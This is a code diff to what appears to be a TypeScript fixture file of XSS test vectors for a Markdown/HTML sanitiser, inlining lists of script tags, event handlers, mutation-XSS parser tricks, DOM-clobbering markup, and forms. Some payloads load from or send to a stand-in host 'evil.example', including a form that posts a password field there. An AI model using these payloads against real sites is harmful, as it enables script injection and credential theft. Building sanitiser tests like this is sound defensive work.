@@ -1,6 +1,6 @@
-import { CLOBBERING, FORMS_AND_PAGES, MUTATIONS, SCRIPTS, STYLES } from './html-vectors-markup'
-
 /** Ways to make a page act through Markdown or HTML, by class. Each would act, somewhere, if the text came out as it is. */
+
+const words = (text: string): string[] => text.trim().split(/\s+/)
 
 const SCRIPT_SCHEMES = [
   'javascript:alert(1)',
@@ -53,100 +53,21 @@ const DISGUISED = [
 
 const ADDRESSES = [...SCRIPT_SCHEMES, ...DISGUISED]
 
-const HOLDERS = [
-  ...[
-    'href',
-    'src',
-    'action',
-    'formaction',
-    'xlink:href',
-    'background',
-    'poster',
-    'data',
-    'cite',
-    'ping',
-    'longdesc',
-    'srcdoc',
-  ],
-  ...['srcset', 'style', 'lowsrc', 'dynsrc', 'codebase', 'usemap', 'manifest', 'content', 'to', 'values', 'from'],
-]
+const HOLDERS = words(`
+  href src action formaction xlink:href background poster data cite ping longdesc srcdoc srcset style lowsrc
+  dynsrc codebase usemap manifest content to values from
+`)
 
-const ELEMENTS = [
-  ...[
-    'a',
-    'img',
-    'form',
-    'input',
-    'button',
-    'iframe',
-    'object',
-    'embed',
-    'link',
-    'meta',
-    'base',
-    'video',
-    'audio',
-    'source',
-    'track',
-  ],
-  ...[
-    'svg',
-    'math',
-    'body',
-    'html',
-    'table',
-    'td',
-    'p',
-    'h1',
-    'details',
-    'area',
-    'map',
-    'applet',
-    'frame',
-    'frameset',
-    'portal',
-    'layer',
-  ],
-  ...[
-    'isindex',
-    'bgsound',
-    'marquee',
-    'select',
-    'option',
-    'keygen',
-    'template',
-    'slot',
-    'dialog',
-    'picture',
-    'fencedframe',
-    'x-custom',
-  ],
-]
+const ELEMENTS = words(`
+  a img form input button iframe object embed link meta base video audio source track svg math body html table td
+  p h1 details area map applet frame frameset portal layer isindex bgsound marquee select option keygen template
+  slot dialog picture fencedframe x-custom
+`)
 
-const HANDLERS = [
-  ...[
-    'onclick',
-    'onerror',
-    'onload',
-    'onmouseover',
-    'onfocus',
-    'ontoggle',
-    'onbegin',
-    'onpointerrawupdate',
-    'onanimationstart',
-  ],
-  ...[
-    'ONCLICK',
-    'oNeRrOr',
-    'on\u00adload',
-    'onbeforetoggle',
-    'onscrollend',
-    'onwebkittransitionend',
-    'formaction',
-    'style',
-    'autofocus',
-  ],
-]
+const HANDLERS = words(`
+  onclick onerror onload onmouseover onfocus ontoggle onbegin onpointerrawupdate onanimationstart ONCLICK oNeRrOr
+  on\u00adload onbeforetoggle onscrollend onwebkittransitionend formaction style autofocus
+`)
 
 const WIKI = [
   '[["><img src=x onerror=alert(1)>]]',
@@ -196,6 +117,154 @@ const QUOTING = [
   '> <iframe src=javascript:alert(1)>\n> > <base href=//evil.example>',
   '| a | <img src=x onerror=alert(1)> |\n|:-|-:|\n| </td></tr></table><script>alert(1)</script> | b |',
   '<kbd><script>alert(1)</script> <img src=x onerror=alert(1)></kbd> <pre onclick=alert(1)><img src=x onerror=alert(1)></pre>',
+]
+
+const SCRIPTS = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<script/x>alert(1)</script >',
+  '<script\n>alert(1)</script\n>',
+  '<script\x0c>alert(1)</script>',
+  '<script\x0b>alert(1)</script>',
+  '<script\0>alert(1)</script>',
+  '<scr\0ipt>alert(1)</script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<<script>alert(1)//<</script>',
+  '<script>alert(1)',
+  '<script <b>alert(1)</script>',
+  '</script><script>alert(1)</script>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><script href="data:,alert(1)"/></svg>',
+  '<script type="module">import "//evil.example"</script>',
+  '<\u017fcript>alert(1)</\u017fcript>',
+  '<ſcript src=//evil.example>',
+  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
+  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
+  '<?php echo 1 ?><script>alert(1)</script>',
+  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
+  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '`<script>alert(1)</script>`',
+  '```<script>alert(1)</script>\n<script>alert(1)</script>\n```',
+  '```"><script>alert(1)</script>\nx\n```',
+  "``` ' onclick=alert(1) x='\nx\n```",
+  '~~~ "onmouseover="alert(1)\nx\n~~~',
+]
+
+const STYLES = [
+  '<style>@import "//evil.example"</style>',
+  '<style>*{background:url(javascript:alert(1))}</style>',
+  '<p style="background:url(//evil.example)">x</p>',
+  '<p style=expression(alert(1))>x</p>',
+  '<a style="position:fixed;inset:0" href="https://evil.example">x</a>',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<div style="behavior:url(#default#time2)">x</div>',
+  '<b class="modal fade" data-toggle="modal" data-target="#x">x</b>',
+]
+
+/** Text that means one thing to one parser and another to the next. */
+const MUTATIONS = [
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
+  '<div><noscript></div><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><script>alert(1)</script></template>',
+  '<template shadowrootmode=open><slot onslotchange=alert(1)></template>',
+  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
+  '<textarea/></textarea/><img src=x onerror=alert(1)>',
+  '<title><img title="</title><img src=x onerror=alert(1)>">',
+  '<style><img title="</style><img src=x onerror=alert(1)>">',
+  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
+  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
+  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
+  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
+  '<plaintext><img src=x onerror=alert(1)>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<!---><img src=x onerror=alert(1)>-->',
+  '<!-- --!><img src=x onerror=alert(1)> -->',
+  '<!-- <!-- --><img src=x onerror=alert(1)> -->',
+  '<!><img src=x onerror=alert(1)>',
+  '<?><img src=x onerror=alert(1)>',
+  '</><img src=x onerror=alert(1)>',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
+  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
+  '<svg><title><img src=x onerror=alert(1)></title></svg>',
+  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>',
+  '<svg><set attributeName=onmouseover to=alert(1)></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
+  '<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
+  '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi></math>',
+  '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
+  '<select><style></select><img src=x onerror=alert(1)></style>',
+  '<select><noscript></select><script>alert(1)</script>',
+  '<table><caption><svg><style><img src onerror=alert(1)>',
+  '<table><script>alert(1)</script><tr><td>x</table>',
+  '<a><b></a><p></b><table><a href="javascript:alert(1)">x</table>',
+  '<b><i></b></i><div></b></p></div></li></td></table></main></body></html>',
+  '</main></footer></div></section></article></body></html><script>alert(1)</script>',
+  '<p title="`<img src=x onerror=alert(1)>`">`"><img src=x onerror=alert(1)>`',
+  '<img alt="``onload=alert(1) x=``" src=x>',
+  "<a title='\"><img src=x onerror=alert(1)>' href=#>x</a>",
+  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
+  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
+  '<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>',
+]
+
+const FORMS_AND_PAGES = [
+  '<form action="https://evil.example"><input name=password type=password><button>ok</button></form>',
+  '<input type=image src=x onerror=alert(1)>',
+  '<input type=checkbox name=x form=y onchange=alert(1)>',
+  '<input type="checkbox " value=1><input type=CHECKBOX disabled><input disabled>',
+  '<button formaction=javascript:alert(1)>x</button>',
+  '<textarea autofocus onfocus=alert(1)>',
+  '<keygen autofocus onfocus=alert(1)>',
+  '<isindex type=image src=1 onerror=alert(1)>',
+  '<label for=x>x</label><output form=x>y</output><fieldset form=x></fieldset>',
+  '<base href="https://evil.example/">',
+  '<base target="_blank">',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<meta name=referrer content=unsafe-url>',
+  '<link rel=import href=//evil.example>',
+  '<link rel=prefetch href=//evil.example>',
+  '<iframe src=javascript:alert(1)></iframe>',
+  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
+  '<object data=javascript:alert(1)></object>',
+  '<object><param name=src value=javascript:alert(1)></object>',
+  '<embed src=data:text/html,x>',
+  '<applet code=x></applet>',
+  '<video><source onerror=alert(1)></video>',
+  '<audio src=x onerror=alert(1)>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<body onload=alert(1)><html manifest=x><head><title>x',
+  '<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>',
+  '<img srcset="javascript:alert(1) 1x, //evil.example 2x">',
+  '<picture><source srcset="data:,x"><img src=x></picture>',
+  '<img src="x` `<script>alert(1)</script>"` `>',
+  '<img usemap=#m src=x><map name=m><area href=javascript:alert(1)></map>',
+  '<a href=x target=_blank rel=opener ping=//evil.example download>x</a>',
+]
+
+const CLOBBERING = [
+  '<a id=location name=cookie href="https://evil.example">x</a>',
+  '<img name=body src=x><img id=getElementById name=querySelector src=x>',
+  '<form id=attributes><input name=nodeName></form>',
+  '<h1 id=documentElement>x</h1><h2 name=forms>y</h2>',
+  '<h1 id="h-x" name="h-y" class="wikilink">x</h1>',
+  '# location\n# __proto__\n# constructor\n# " onclick=alert(1)\n# <img src=x onerror=alert(1)>\n# &quot; id=x',
+  '<p __proto__=x constructor=y hasOwnProperty=z toString=w>x</p><__proto__ x=y><constructor><hasownproperty>',
+  '<a class="wikilink" data-note-id="forged" data-target="forged" href="https://evil.example">x</a>',
+  '<a class="wikilink btn" href="https://evil.example">x</a>',
+  '<a href="wiki-0:0" onclick=alert(1)>x</a> [[Real]] <a href="&#119;iki-0:0" onclick=alert(1)>x</a>',
+  '<ol start="1 onclick=alert(1)"><li value=1 type=a>x</ol>',
+  '<code class="language-x modal">y</code><code class="language-">z</code>',
+  '<td align="x"><th align=char char=. bgcolor=red background=//evil.example>',
 ]
 
 /** The classes by name, each with its texts. */
